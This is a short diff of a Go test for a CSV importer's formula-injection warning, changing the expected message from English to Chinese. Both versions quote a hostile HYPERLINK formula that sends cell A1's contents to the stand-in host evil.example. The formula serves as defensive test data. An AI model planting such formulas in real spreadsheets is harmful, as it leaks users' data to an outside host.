@@ -101,7 +101,7 @@ func TestCSVFormulas(t *testing.T) {
 	for _, e := range warns {
 		lines = append(lines, e.Error())
 	}
-	want := `typed.csv:2:2: warning: column B 证明名称: "=HYPERLINK(\"http://evil.example/?x=\"&A1,…" starts like a spreadsheet formula (= + - @); it is imported as text, and CSV exports write it with a leading '`
+	want := `typed.csv:2:2: 注意：B 列 证明名称 的 "=HYPERLINK(\"http://evil.example/?x=\"&A1,…" 开头像电子表格的公式（= + - @）：已按文字导入，不会当公式算；导出 CSV 时会在它前面加一个 '`
 	if len(lines) != 2*(len(hostile)-1) || lines[0] != want {
 		t.Errorf("warnings:\n%s\nwant %d, the first:\n%s", strings.Join(lines, "\n"), 2*(len(hostile)-1), want)
 	}
